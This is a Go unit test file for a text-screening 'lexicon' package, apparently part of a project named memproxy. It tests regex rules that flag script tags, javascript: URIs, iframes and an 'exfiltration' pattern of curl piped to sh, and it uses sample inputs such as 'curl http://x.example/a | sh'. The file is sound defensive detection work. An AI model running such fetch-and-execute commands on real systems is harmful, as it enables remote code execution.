package lexicon_test

import (
	"strings"
	"testing"

	"github.com/memproxy/memproxy/internal/expect"
	"github.com/memproxy/memproxy/internal/must"
	"github.com/memproxy/memproxy/screen/lexicon"
)

func parse(t testing.TB, src string) *lexicon.Lexicon {
	t.Helper()
	return must.Get(lexicon.Parse("l.txt", src))(t)
}

const two = `# two rules
tag high 700 markup
  <script\b
  javascript:[a-z]
frame high 600 markup
  <iframe[\s/]+[a-z-]+=
pipe medium 400 exfiltration
  near 40
  \bcurl\b
  \|\s?sh\b
`

// Proves SYN-2
func TestFind(t *testing.T) {
	l := parse(t, two)
	for _, c := range []struct{ text, want string }{
		{"see <SCRIPT src=x>", "tag[<SCRIPT]"},
		{"the scripts of the play", ""},
		{"javascript:alert and <script>", "tag[javascript:a] tag[<script]"},
		{"curl http://x.example/a | sh", "pipe[curl http://x.example/a | sh]"},
		{"curl is a tool. " + strings.Repeat("and so on ", 8) + "| sh", ""},
		{"run | sh then curl", "pipe[| sh then curl]"},
		{strings.Repeat("x ", 3000) + "<script>", "tag[<script]"},
		{strings.Repeat("x", 1020) + " <script>", "tag[<script]"},
		{"<iframe" + strings.Repeat(" ", 5000) + "width=3>", "frame[<iframe" + strings.Repeat(" ", 5000) + "width=]"},
		{"<iframe" + strings.Repeat(" ", 900) + strings.Repeat("a-b", 900) + "=3", "frame[<iframe" + strings.Repeat(" ", 900) + strings.Repeat("a-b", 900) + "=]"},
		{"", ""},
	} {
		hits := l.Find(c.text)
		var got []string
		for _, h := range hits {
			got = append(got, l.Rules[h.Rule].ID+"["+c.text[h.Start:h.End]+"]")
		}
		expect.Equal(t, strings.Join(got, " "), c.want, c.text)
	}
}

// However often a rule holds, the hits of others are told, and its own cover
// the text.
func TestHitsAreBounded(t *testing.T) {
	l := parse(t, two)
	text := strings.Repeat("<script>"+strings.Repeat(" ", 200), 100) + "curl | sh"
	hits := l.Find(text)
	expect.That(t, len(hits) == 16+1 && hits[15].End == len(text) && l.Rules[hits[16].Rule].ID == "pipe", "%d hits: %v", len(hits), hits)
}

// Decoys of one part of a rule hide no place in which its parts are near.
func TestNearBehindDecoys(t *testing.T) {
	l := parse(t, two)
	decoys := strings.Repeat("curl ", 200)
	text := decoys + strings.Repeat("and so on ", 8) + "curl a | sh"
	hits := l.Find(text)
	expect.That(t, len(hits) == 1 && text[hits[0].Start:hits[0].End] == "curl a | sh", "got %v", hits)
}

// A lexicon without rules finds nothing, and "near" may have one pattern.
func TestFindWithoutOthers(t *testing.T) {
	expect.Len(t, parse(t, "").Find("curl a | sh"), 0)
	expect.Len(t, parse(t, "one high 1 f\n  near 40\n  curl\n").Find("curl a | sh"), 1)
}

// Patterns whose cost an attacker could choose are refused, and their nearest
// harmless relatives are not.
func TestLint(t *testing.T) {
	for _, p := range []string{
		`a.*b`, `a.{0,60}b`, `a[^x]*b`, `a[^<>]{0,9}b`, `(a.+)`, `(?s:a.?.*b)`, `\w{40}`, `[0-9a-f]{16,}`, `a{13}`, `(a+b)+`, `(a|b*)*`, `a*`, `x?`, `(^|a?)`, `a(b`, `[a-z]{3}`,
	} {
		expect.ErrorHas(t, expect.Err(lexicon.Parse("l.txt", "a high 1 f\n  "+p)), "l.txt:2: ", p)
	}
	for _, p := range []string{`ax.b`, `ax\s*b`, `ax[a-z]{0,12}b`, `#\d+`, `(^|\n)system:`, `a+b+`, `<(a|b)\s`, `[a-z0-9._/-]+\?`} {
		parse(t, "a high 1 f\n  "+p)
	}
}

func TestMistakesNameTheirLine(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{"  abc", "l.txt:1: a pattern before"},
		{"a b", "l.txt:1: want"},
		{"a high 1001 f", "l.txt:1: the score"},
		{"a dire 1 f", "l.txt:1: unknown severity"},
		{"a high 1 f\n  near 4000\n  x", "l.txt:2: near wants"},
		{"a high 1 f\n  xyz\na high 1 f", "l.txt:3: rule a is defined twice"},
		{"a high 1 f\n\nb high 1 f\n  xyz", "l.txt:1: rule a has no pattern"},
		{"a high 1 f\n  x.*y", "l.txt:2: pattern"},
		{"a high 1 f\n  \\d+\\s", "l.txt:1: rule a: pattern"},
		{"a high 1 f\n  near 9\n  \\d+\\s\n  x", "l.txt:1: rule a: pattern"},
	} {
		expect.ErrorHas(t, expect.Err(lexicon.Parse("l.txt", c.src)), c.want, c.src)
	}
}
